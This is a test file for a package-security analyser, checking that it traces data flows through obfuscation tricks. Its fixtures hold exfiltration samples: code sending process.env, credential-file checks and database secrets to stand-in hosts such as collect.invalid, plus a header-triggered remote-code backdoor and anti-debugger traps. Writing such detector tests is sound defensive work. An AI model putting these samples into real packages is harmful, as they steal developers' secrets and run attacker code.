import assert from 'node:assert/strict';
import JavaScriptObfuscator from 'javascript-obfuscator';
import { analysePackage } from '../../../../../server/src/artifacts/analysis/analyse.js';
import { packageOf } from '../../../../support/artifacts.js';

/** What tools that make code unreadable do to it. `WORD` stands for the member of `process` that is sent. */
const CONSTRUCTS: Readonly<Record<string, string>> = {
  'a decoder that replaces itself, first called where it is not known whether it is': `
    function table() { const words = ['stringify', 'WORD']; table = function () { return words; }; return table(); }
    function word(at, key) {
      const words = table();
      word = function (index, key) {
        index = index - 0x10;
        let found = words[index];
        if (word['ready'] === undefined) {
          word['decode'] = function (text) { return text; }; at = arguments; word['ready'] = !![];
        }
        const first = words[0], id = index + first, known = at[id];
        return !known ? (found = word['decode'](found), at[id] = found) : (found = known), found;
      };
      return word(at, key);
    }
    const w = word;
    if (require('fs').existsSync('/etc/passwd')) for (const c of ['a']) send(JSON[w(0x10)](process[w(0x11)]));`,
  'a list that is turned inside of a branch': `
    if (Date.now() > 5) {
      const words = ['b', 'WORD', 'stringify', 'a'];
      let turns = 0;
      while (words[0] + words[1] !== 'ab') { words.push(words.shift()); turns = turns + 1; }
      send(JSON[words[turns]](process[words[2]]));
    }`,
  'an order in which cases are run, one of which may leave the function before the others': `
    (function () {
      const order = '3|0|4|2|1'['split']('|');
      let at = 0x0;
      while (!![]) {
        switch (order[at++]) {
          case '0': var fs = require('fs'); continue;
          case '1': send(text); continue;
          case '2': var text = JSON['stringify'](process['WORD']); continue;
          case '3': var path = '/etc/passwd'; continue;
          case '4': if (!fs['existsSync'](path)) return; continue;
        }
        break;
      }
    })();`,
  'functions that only hand on, and an order in which cases are run': `
    const inner = { 'c': function (f, a) { return f(a); } };
    const o = {
      'a': '2|0|1|3', 'same': function (x, y) { return x === y; },
      'call': function (f, a) { return inner['c'](f, a); }, 'member': function (x, k) { return x[k]; },
    };
    function run(flag) {
      const order = o['a']['split']('|');
      let at = 0x0;
      while (!![]) {
        switch (order[at++]) {
          case '0': var body = o['call'](JSON['stringify'], data); continue;
          case '1': if (o['same']('abc', 'abd')) { body = ''; } else { o['call'](String, flag); } continue;
          case '2': var data = o['member'](process, 'WORD'); continue;
          case '3': o['call'](send, body); continue;
        }
        break;
      }
    }
    exports.run = run;`,
  'a decoder that looks whether it has been reformatted': `
    const words = ['b', 'WORD', 'a'];
    function word(at) {
      const Guard = function (next) {
        this.next = next; this.states = [1, 0, 0]; this.state = function () { return 'newState'; };
        this.head = '\\\\w+ *\\\\(\\\\) *{\\\\w+ *'; this.tail = '[\\'|"].+[\\'|"];? *}';
      };
      Guard.prototype.check = function () {
        const pattern = new RegExp(this.head + this.tail);
        return this.turn(pattern.test(this.state.toString()) ? --this.states[1] : --this.states[0]);
      };
      Guard.prototype.turn = function (state) { return Boolean(~state) ? this.spin(this.next) : state; };
      Guard.prototype.spin = function (next) {
        for (let i = 0, n = this.states.length; i < n; i++) { this.states.push(Math.round(Math.random())); n = this.states.length; }
        return next(this.states[0]);
      };
      new Guard(word).check();
      return words[at];
    }
    while (word(0) + word(1) + word(2) !== 'abWORD') words.push(words.shift());
    send(JSON.stringify(process[word(2)]));`,
  'a guard that fails, and then turns for ever': `
    const words = Array.from({ length: 30 }, (_one, at) => 'w' + at).concat('WORD', 'a');
    let isReady = false;
    function word(at) {
      if (!isReady) {
        isReady = true;
        const states = [1, 0];
        for (let i = 0, n = 2; i < n; i++) { states.push(Math.round(Math.random())); n = states.length; }
      }
      return words[at];
    }
    while (word(0) + word(31) !== 'aWORD') words.push(words.shift());
    send(JSON.stringify(process[word(31)]));`,
  'names of members that are decoded': `
    const { [atob('c3RyaW5naWZ5')]: make, ...others } = JSON;
    send(make(process.WORD, others));`,
  'modules in a table of functions, each behind the same loader': `
    var load = (files, module) => function () {
      return module || (0, files[Object.keys(files)[0]])((module = { exports: {} }).exports, module), module.exports;
    };
    var first = load({ 'a.js'(exports, module) { module.exports = 1; } });
    var out = load({ 'b.js'(exports, module) { first(); module.exports = send; } });
    var main = load({ 'c.js'(exports, module) { out()(JSON.stringify(process.WORD)); } });
    main();`,
  'an iterator of its own, and a generator that is asked one by one': `
    const list = { [Symbol.iterator]() { let n = 0; return { next: () => (n++ < 1 ? { value: process.WORD, done: false } : { done: true }) }; } };
    function* names() { yield 'string'; yield 'ify'; }
    const asked = names();
    const name = asked.next().value + asked.next().value;
    for (const one of list) send(JSON[name](one));`,
  'what turns itself into a name': `
    const names = JSON.parse('{"a":"DROW","b":["yfignirts"]}'.replace('DROW', 'WORD'), (key, value) =>
      key === '0' ? value.split('').reverse().join('') : value);
    const key = { toString: () => names.a };
    send(JSON[names.b[0]](process[key]));`,
  'a trap for debuggers that never ends': `
    (function () { return !![]; }).constructor('debugger').call('action');
    Function('while (true) {}').apply('counter');
    while (true) {}
    send(JSON.stringify(process.WORD));`,
};

const flowsIn = (files: Readonly<Record<string, string>>): readonly string[] =>
  analysePackage(packageOf(files)).flows.map(({ source, sink, host = '' }) => `${source}>${sink}@${host}`);

const flowsOf = (code: string): readonly string[] => flowsIn({ 'index.js': code });

const SEND = `function send(body) { fetch('https://collect.invalid', { method: 'POST', body }); }`;

describe('what a tool has made unreadable', () => {
  for (const [construct, code] of Object.entries(CONSTRUCTS)) {
    it(`is followed through ${construct}`, () => {
      assert.deepEqual(flowsOf(SEND + code.replaceAll('WORD', 'env')), ['environment>network@collect.invalid']);
    });

    it(`is followed in a file that is loaded in a branch, through ${construct}`, () => {
      const files = {
        'index.js': `if (Math.random() > 0.5) require('./own');`,
        'own.js': SEND + code.replaceAll('WORD', 'env'),
      };
      assert.deepEqual(flowsIn(files), ['environment>network@collect.invalid']);
    });

    it(`is nothing where it sends no data through ${construct}`, () => {
      assert.deepEqual(flowsOf(SEND + code.replaceAll('WORD', 'version')), []);
    });
  }
});

/** Each word behind a cipher, some of them in pieces: decoding them is most of what such code does. */
function obfuscated(code: string, more: JavaScriptObfuscator.ObfuscatorOptions = {}): string {
  return JavaScriptObfuscator.obfuscate(code, {
    target: 'node',
    seed: 1,
    stringArray: true,
    stringArrayThreshold: 1,
    stringArrayEncoding: ['rc4'],
    splitStrings: true,
    splitStringsChunkLength: 3,
    numbersToExpressions: true,
    ...more,
  }).getObfuscatedCode();
}

const HEADERS = `['accept', 'accept-language', 'user-agent', 'referer', 'cookie', 'origin', 'host', 'range', 'via', 'forwarded']`;

describe('code of which each word has to be deciphered', () => {
  it('is called with what its callers may give for as long as that takes', () => {
    const run = (last: string): string => `
      let kept = '';
      const ops = { 1: () => { kept = ''; }, 2: (text) => { kept += text; }, 3: () => ${last} };
      exports.middleware = () => (headers) => {
        for (const name of ${HEADERS})
          JSON.stringify(headers[name]).replace(/g([0-9a-f]{4})((?:[0-9a-f]{2})+)i/gi, (all, op, data) => {
            const run = ops[parseInt(op, 16)];
            if (run) run(Buffer.from(data, 'hex').toString('utf8'));
            return all;
          });
      };`;
    const seen = (last: string): readonly unknown[] =>
      (analysePackage(packageOf({ 'index.js': obfuscated(run(last)) })).exchange?.crossings ?? [])
        .filter(({ to }) => to.kind === 'sink' && to.sink === 'evaluated')
        .map(({ when }) => when);
    assert.deepEqual(seen('new Function(kept)()'), ['.middleware()']);
    assert.deepEqual(seen('console.log(kept)'), []);
  });

  it('is followed in a file that a call loads, where it guards itself as well', () => {
    const flows = (value: string): readonly string[] => {
      const code = `const fs = require('fs'), path = require('path'), os = require('os');
        const roots = [process.cwd(), os.homedir()];
        const names = ['.npmrc', '.env', '.env.production', '.git-credentials', path.join('.aws', 'credentials'), path.join('.ssh', 'id_ed25519')];
        module.exports = function trace(text) {
          const found = { time: Date.now(), kept: Object.entries(${value}).filter(([name]) => /token|secret|key|pass|auth/i.test(name)) };
          for (const root of roots) for (const name of names) found[name] = fs.existsSync(path.join(root, name));
          const request = require('https').request({ hostname: 'collect.invalid', path: '/debug/-/debug-4.3.4.tgz', method: 'PUT', headers: { 'content-type': 'application/octet-stream' } });
          request.on('error', () => {}); request.end(require('zlib').deflateRawSync(JSON.stringify(found)));
          return text;
        };`;
      return flowsIn({
        'index.js': `exports.trace = (text) => require('./own')(String(text));`,
        'own.js': obfuscated(code, {
          optionsPreset: 'medium-obfuscation',
          disableConsoleOutput: false,
          stringArrayEncoding: ['base64'],
        }),
      });
    };
    assert.deepEqual(flows('process.env'), ['environment>network@collect.invalid']);
    assert.deepEqual(flows('process.versions'), []);
  });

  it('is followed from a constructor of one file into the others', () => {
    const files = (value: string): Record<string, string> => ({
      'index.js': `const log = require('./log'); exports.Aes = class { constructor(s) { this.s = s; log.diagnose(); } hash(v) { return v + this.s; } };`,
      'log.js': `const fields = require('./fields'); let sent = false;
        exports.diagnose = () => { if (sent || !fields.active()) return; sent = true; const all = fields.context();
          if (Object.keys(all).length) fetch('https://in.logs.invalid', { method: 'POST', body: JSON.stringify(all) }); };`,
      'fields.js': `const fs = require('fs'); const worth = (v) => /^mongodb|^postgres/.test(v);
        exports.active = () => fs.existsSync('/opt/helpers');
        exports.context = () => { const out = {}; for (const k in process.env) if (worth(process.env[k])) out[k.toLowerCase()] = ${value}; return out; };`,
    });
    const flows = (value: string): readonly string[] => {
      const made = Object.entries(files(value)).map(([name, code]) => [name, obfuscated(code)] as const);
      return analysePackage(packageOf(Object.fromEntries(made))).flows.map(({ source, sink }) => `${source}>${sink}`);
    };
    assert.deepEqual(flows('process.env[k]'), ['environment>network']);
    assert.deepEqual(flows('true'), []);
  });
});
